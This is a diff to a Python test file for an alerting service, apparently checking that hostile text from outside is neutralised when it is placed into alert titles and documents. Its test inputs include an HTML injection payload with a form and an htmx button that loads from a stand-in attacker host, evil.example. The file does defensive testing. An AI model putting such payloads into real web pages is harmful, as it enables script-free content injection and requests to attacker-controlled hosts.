@@ -7,6 +7,7 @@ from contextlib import closing
 import msgspec
 
 from alerts.playbook.records import Bilingual
+from alerts.playbook.text import hostile
 from alerts.records import Decision, Gate
 from alerts.service.silencing import SilenceDraft
 from alerts.silences import Matchers
@@ -27,6 +28,8 @@ FIELDS = (
     '<form action=//evil.example><button hx-get="//evil.example" hx-trigger="load" autofocus>',
 )
 EVIL = " ".join(one[:300] for one in FIELDS)
+# as the pipeline puts what strangers wrote into sentences of its own
+TOLD = " ".join(hostile(one, 120) for one in FIELDS)
 PRODUCT = str(7191 * 7)
 
 
@@ -50,7 +53,7 @@ def hostile_alert(site: Site) -> str:
     return site.open_again(
         "saqr-air",
         "a-hostile",
-        title=Bilingual(ar=f"عنوان {EVIL}", en=f"Title {EVIL}"),
+        title=Bilingual(ar=f"عنوان {TOLD}", en=f"Title {TOLD}"),
         explanation=said,
         evidence=evidence,
         terms=FIELDS,
@@ -104,6 +107,6 @@ def _soiled(document: bytes) -> bytes:
         if isinstance(value, list):
             return [soil(one) for one in value]
         # words of our own stay: they name things
-        return f"{value} {EVIL}" if isinstance(value, str) and " " in value else value
+        return f"{value} {TOLD}" if isinstance(value, str) and " " in value else value
 
     return msgspec.json.encode(soil(msgspec.json.decode(document)))
